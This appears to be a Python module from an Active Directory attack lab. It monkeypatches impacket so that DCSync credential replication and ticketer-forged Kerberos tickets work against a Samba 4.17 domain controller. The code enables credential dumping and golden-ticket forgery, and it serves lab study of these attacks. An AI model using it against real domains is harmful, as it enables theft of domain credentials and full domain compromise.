"""Runtime fixes that let impacket 0.13.1 talk to a Samba 4.17 AD DC.

Imported (and applied) by lab/attacks.py before anything else touches impacket. Each fix is a
monkeypatch of one impacket function, so the lab keeps using the released impacket from PyPI
rather than a fork. All of them only matter against Samba (Heimdal KDC, Samba's DRSUAPI);
against Windows they are no-ops or harmless.

1. ccache_starttime: Samba's KDC omits the optional `starttime` in EncKDCRepPart. impacket's
   CCache.fromTGT/fromTGS dereference it unconditionally and crash, so no ccache is written.
   Fix: a missing KerberosTime converts to timestamp 0 ("same as authtime" in the ccache).
2. tgs_authenticator_checksum: impacket's getKerberosTGS sends an AP-REQ authenticator without
   the checksum over the TGS-REQ body (RFC 4120 5.4.1). Heimdal insists on it and answers
   KRB_AP_ERR_INAPP_CKSUM. Fix: a getKerberosTGS that adds the keyed checksum (key usage 6).
3. drsuapi_getncchanges: Samba answers DRSGetNCChanges with 0 objects unless the request's
   prefix table carries the schema-info entry, and impacket misreads Samba's (successful) reply
   as an error. Fix: see patch_drsuapi().
4. ticketer_pac_padding / kvno: forged PAC buffers must be 8-byte aligned for Samba's PAC
   parser, and the krbtgt key version is taken from the real domain (Samba's is often 1; impacket's
   ticketer hard-codes 2). Applied by lab/attacks.py when it loads ticketer.
5. rpc_bind_getdata: MSRPCBind.getData() is not idempotent, so the ALTER_CONTEXT leg of a
   Kerberos-authenticated DCE/RPC bind repeats the context items and Samba drops it (DCSync
   with a stolen ticket). Fix: see patch_rpc_bind_getdata().

`python -m lab.impacket_patches` prints the patches applied.
"""

from __future__ import annotations

import datetime
import random
import struct

APPLIED: list[str] = []


def patch_ccache_starttime() -> None:
    from impacket.krb5 import ccache, types

    if getattr(types.KerberosTime.from_asn1, "_dcw", False):
        return
    orig_from_asn1 = types.KerberosTime.from_asn1
    orig_ts = ccache.CCache.toTimeStamp

    def from_asn1(data):
        if hasattr(data, "hasValue") and not data.hasValue():
            return None
        return orig_from_asn1(data)

    def toTimeStamp(self, dt, *a, **kw):
        if dt is None:
            return 0
        return orig_ts(self, dt, *a, **kw)

    from_asn1._dcw = True
    types.KerberosTime.from_asn1 = staticmethod(from_asn1)
    ccache.CCache.toTimeStamp = toTimeStamp
    APPLIED.append("ccache_starttime")


def _strip_explicit_tag(der: bytes) -> bytes:
    """DER of a context-tagged component [n] -> DER of the inner value."""
    n = der[1]
    if n < 0x80:
        return der[2:]
    return der[2 + (n & 0x7F) :]


# checksum type keyed with a session key of each etype (RFC 3961 / 4757): AES256, AES128, RC4,
# DES3
CKSUM_FOR_ETYPE = {18: 16, 17: 15, 23: -138, 16: 12}


def set_body_checksum(authenticator, session_key, encoded_body: bytes) -> None:
    """The authenticator's keyed checksum over a TGS-REQ body (RFC 4120 5.5.1, key usage 6):
    what impacket leaves out and Heimdal insists on (else KRB_AP_ERR_INAPP_CKSUM)."""
    from impacket.krb5.crypto import make_checksum
    from pyasn1.type.univ import noValue

    ctype = CKSUM_FOR_ETYPE[int(session_key.enctype)]
    authenticator["cksum"] = noValue
    authenticator["cksum"]["cksumtype"] = ctype
    authenticator["cksum"]["checksum"] = make_checksum(ctype, session_key, 6, encoded_body)


def tgs_ap_req(ticket, rep, session_key, cipher, encoded_body: bytes) -> bytes:
    """The encoded AP-REQ of a TGS-REQ's PA-TGS-REQ: ``ticket`` (the TGT, or the ticket a
    TGS-REQ presents) and an authenticator for the client ``rep`` names (crealm, cname) with
    the keyed checksum of ``encoded_body`` (``set_body_checksum``), encrypted with the session
    key (key usage 7)."""
    from impacket.krb5 import constants
    from impacket.krb5.asn1 import AP_REQ, Authenticator, seq_set
    from impacket.krb5.types import KerberosTime, Principal
    from pyasn1.codec.der import encoder
    from pyasn1.type.univ import noValue

    ap = AP_REQ()
    ap["pvno"] = 5
    ap["msg-type"] = int(constants.ApplicationTagNumbers.AP_REQ.value)
    ap["ap-options"] = constants.encodeFlags([])
    seq_set(ap, "ticket", ticket.to_asn1)
    auth = Authenticator()
    auth["authenticator-vno"] = 5
    auth["crealm"] = rep["crealm"].asOctets()
    cname = Principal()
    cname.from_asn1(rep, "crealm", "cname")
    seq_set(auth, "cname", cname.components_to_asn1)
    set_body_checksum(auth, session_key, encoded_body)
    now = datetime.datetime.now(datetime.UTC)
    auth["cusec"] = now.microsecond
    auth["ctime"] = KerberosTime.to_asn1(now)
    ap["authenticator"] = noValue
    ap["authenticator"]["etype"] = cipher.enctype
    ap["authenticator"]["cipher"] = cipher.encrypt(session_key, 7, encoder.encode(auth), None)
    return encoder.encode(ap)


def patch_tgs_checksum() -> None:
    from impacket.krb5 import kerberosv5

    if getattr(kerberosv5.getKerberosTGS, "_dcw", False):
        return
    from impacket.krb5 import constants
    from impacket.krb5.asn1 import (
        AS_REP,
        TGS_REP,
        TGS_REQ,
        EncTGSRepPart,
        seq_set,
        seq_set_iter,
    )
    from impacket.krb5.crypto import Key, _enctype_table
    from impacket.krb5.types import KerberosTime, Principal, Ticket
    from pyasn1.codec.der import decoder, encoder
    from pyasn1.type.univ import noValue

    def getKerberosTGS(
        serverName,
        domain,
        kdcHost,
        tgt,
        cipher,
        sessionKey,
        renew=False,
        kdc_options=None,
        etypes=None,
    ):
        """impacket's getKerberosTGS plus the authenticator checksum; `kdc_options` and
        `etypes` (lab additions) override the requested flags and encryption types."""
        try:
            decodedTGT = decoder.decode(tgt, asn1Spec=AS_REP())[0]
        except Exception:  # noqa: BLE001 - same fallback as impacket
            decodedTGT = decoder.decode(tgt, asn1Spec=TGS_REP())[0]
        domain = domain.upper()
        ticket = Ticket()
        ticket.from_asn1(decodedTGT["ticket"])

        tgsReq = TGS_REQ()
        tgsReq["pvno"] = 5
        tgsReq["msg-type"] = int(constants.ApplicationTagNumbers.TGS_REQ.value)
        reqBody = seq_set(tgsReq, "req-body")
        opts = (
            kdc_options
            if kdc_options is not None
            else [
                constants.KDCOptions.forwardable.value,
                constants.KDCOptions.renewable.value,
                constants.KDCOptions.renewable_ok.value,
                constants.KDCOptions.canonicalize.value,
            ]
        )
        opts = list(opts)
        if renew:
            opts.append(constants.KDCOptions.renew.value)
        reqBody["kdc-options"] = constants.encodeFlags(opts)
        seq_set(reqBody, "sname", serverName.components_to_asn1)
        reqBody["realm"] = domain
        till = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=1)
        reqBody["till"] = KerberosTime.to_asn1(till)
        reqBody["nonce"] = random.SystemRandom().getrandbits(31)
        seq_set_iter(
            reqBody,
            "etype",
            tuple(etypes)
            if etypes
            else (
                int(constants.EncryptionTypes.rc4_hmac.value),
                int(constants.EncryptionTypes.des3_cbc_sha1_kd.value),
                int(constants.EncryptionTypes.des_cbc_md5.value),
                int(cipher.enctype),
            ),
        )
        encodedReqBody = _strip_explicit_tag(encoder.encode(reqBody))  # KDC-REQ-BODY itself

        # the fix: the authenticator carries the keyed checksum of the req-body (key usage 6,
        # RFC 4120 5.5.1)
        apReq = tgs_ap_req(ticket, decodedTGT, sessionKey, cipher, encodedReqBody)

        tgsReq["padata"] = noValue
        tgsReq["padata"][0] = noValue
        tgsReq["padata"][0]["padata-type"] = int(
            constants.PreAuthenticationDataTypes.PA_TGS_REQ.value
        )
        tgsReq["padata"][0]["padata-value"] = apReq

        r = kerberosv5.sendReceive(encoder.encode(tgsReq), domain, kdcHost)
        tgs = decoder.decode(r, asn1Spec=TGS_REP())[0]
        plainText = cipher.decrypt(sessionKey, 8, tgs["enc-part"]["cipher"])
        encTGSRepPart = decoder.decode(plainText, asn1Spec=EncTGSRepPart())[0]
        newSessionKey = Key(
            encTGSRepPart["key"]["keytype"], encTGSRepPart["key"]["keyvalue"].asOctets()
        )
        newCipher = _enctype_table[encTGSRepPart["key"]["keytype"]]
        spn = Principal()
        spn.from_asn1(tgs["ticket"], "realm", "sname")
        if spn.components[0] == serverName.components[0]:
            return r, newCipher, sessionKey, newSessionKey
        return getKerberosTGS(serverName, spn.components[1], kdcHost, r, newCipher, newSessionKey)

    getKerberosTGS._dcw = True
    kerberosv5.getKerberosTGS = getKerberosTGS
    APPLIED.append("tgs_authenticator_checksum")


SCHEMA_INFO_PREFIX = [0xFF] + [0] * 20  # 0xFF + dwVersion + invocationId: "schemaInfo" entry


def patch_drsuapi() -> None:
    """DCSync against Samba.

    a) Samba's DRSUAPI replies (NDR over ncacn_ip_tcp with packet privacy) end in non-zero
       padding; impacket's DCERPC_v5.request checks the last 4 bytes of the stub as the
       return code and raises DCERPCSessionError(ERROR_SUCCESS) for a reply that parsed fine.
       Fix: for drsuapi calls, a "session error" whose parsed reply has ErrorCode 0 is returned.
    b) Samba reads the request's PrefixTableDest as [prefixes..., schemaInfo] (MS-DRSR
       5.14: the last entry, with ndx 0 and a 21-byte 0xFF... value, is the schemaInfo), so
       impacket's table without it loses its last prefix and DRSGetNCChanges(EXOP_REPL_OBJ)
       returns 0 objects. Fix: append a schemaInfo entry to DRSGetNCChanges requests.
    """
    from impacket.dcerpc.v5 import drsuapi, rpcrt

    if getattr(rpcrt.DCERPC_v5.request, "_dcw", False):
        return
    orig_request = rpcrt.DCERPC_v5.request

    def request(self, req, uuid=None, checkError=True):
        if isinstance(req, drsuapi.DRSGetNCChanges) and int(req["dwInVersion"]) == 8:
            v8 = req["pmsgIn"]["V8"]
            table = list(v8["PrefixTableDest"]["pPrefixEntry"] or [])
            if not any(list(e["prefix"]["elements"])[:1] == [0xFF] for e in table):
                entry = drsuapi.PrefixTableEntry()
                entry["ndx"] = 0
                entry["prefix"]["length"] = len(SCHEMA_INFO_PREFIX)
                entry["prefix"]["elements"] = SCHEMA_INFO_PREFIX
                table.append(entry)
                v8["PrefixTableDest"]["PrefixCount"] = len(table)
                v8["PrefixTableDest"]["pPrefixEntry"] = table
        if type(req).__module__ != drsuapi.__name__:
            return orig_request(self, req, uuid, checkError)
        try:
            return orig_request(self, req, uuid, checkError)
        except drsuapi.DCERPCSessionError as e:
            pkt = e.get_packet()
            if pkt is not None and int(pkt["ErrorCode"]) == 0:
                return pkt
            raise

    request._dcw = True
    rpcrt.DCERPC_v5.request = request
    APPLIED.append("drsuapi_getncchanges")


def patch_ticketer(mod, kvno: int) -> None:
    """Fixes for impacket's examples/ticketer.py, loaded as module `mod` (see attacks.py).

    a) ticketer_pac_padding: Samba parses PAC_LOGON_INFO as an NDR subcontext whose size must
       be a multiple of 8 ("Bad subcontext (PULL) size_is(-1) not padded to 8"); ticketer emits
       the serialized KERB_VALIDATION_INFO unpadded (e.g. 444 bytes). Fix: zero-pad the object
       buffer to 8 bytes and correct ObjectBufferLength in the serialization header.
    b) ticketer_kvno: ticketer stamps kvno 2 on the forged ticket; Samba's KDC picks the krbtgt
       key by kvno (a fresh Samba domain has kvno 1) and answers KRB_AP_ERR_BADKEYVER. Fix:
       re-stamp the ticket with the domain's real kvno (msDS-KeyVersionNumber of krbtgt).
    """
    from impacket.krb5.asn1 import AS_REP
    from impacket.krb5.pac import PAC_LOGON_INFO
    from pyasn1.codec.der import decoder, encoder

    cls = mod.TICKETER
    if getattr(cls.customizeTicket, "_dcw", False):
        return
    orig_customize = cls.customizeTicket
    orig_sign = cls.signEncryptTicket

    def customizeTicket(self, kdcRep, pacInfos):
        encPart, encTicketPart, infos = orig_customize(self, kdcRep, pacInfos)
        data = infos.get(PAC_LOGON_INFO)
        if data is not None:
            # MS-RPCE 2.2.6 type serialization: 8-byte common header, then the private header
            # whose ObjectBufferLength (offset 8) must be a multiple of 8
            length = struct.unpack_from("<I", data, 8)[0]
            pad = (-length) % 8
            if pad:
                infos[PAC_LOGON_INFO] = (
                    data[:8] + struct.pack("<I", length + pad) + data[12:] + b"\x00" * pad
                )
        return encPart, encTicketPart, infos

    def signEncryptTicket(self, kdcRep, encASorTGSRepPart, encTicketPart, pacInfos):
        ticket, cipher, sessionKey = orig_sign(
            self, kdcRep, encASorTGSRepPart, encTicketPart, pacInfos
        )
        rep = decoder.decode(ticket, asn1Spec=AS_REP())[0]
        rep["ticket"]["enc-part"]["kvno"] = kvno
        return encoder.encode(rep), cipher, sessionKey

    customizeTicket._dcw = True
    cls.customizeTicket = customizeTicket
    cls.signEncryptTicket = signEncryptTicket
    APPLIED.extend(["ticketer_pac_padding", "ticketer_kvno"])


def patch_rpc_bind_getdata() -> None:
    """rpc_bind_getdata: MSRPCBind.getData() appends the context items to the structure each time
    it is called. The Kerberos (GSS_NEGOTIATE) bind serialises the same bind twice (BIND, then
    the ALTER_CONTEXT that carries the AP-REP answer), so the second PDU carries the items twice
    while ctx_num says 1; Samba rejects it ("auth_data_only pad length mismatch ... longer BIND
    packet than expected by 44 bytes") and impacket sees nca_s_proto_error. Windows is lenient.
    Fix: getData() rebuilds ctx_items from the item list every time."""
    from impacket.dcerpc.v5 import rpcrt
    from impacket.structure import Structure

    cls = rpcrt.MSRPCBind
    if getattr(cls.getData, "_dcw", False):
        return

    def getData(self):
        items = self.getCtxItems()
        self["ctx_num"] = len(items)
        self["ctx_items"] = b"".join(i.getData() for i in items)
        return Structure.getData(self)

    getData._dcw = True
    cls.getData = getData
    APPLIED.append("rpc_bind_getdata")


def apply_all() -> list[str]:
    patch_ccache_starttime()
    patch_tgs_checksum()
    patch_drsuapi()
    patch_rpc_bind_getdata()
    return APPLIED


apply_all()


if __name__ == "__main__":
    print("\n".join(APPLIED))
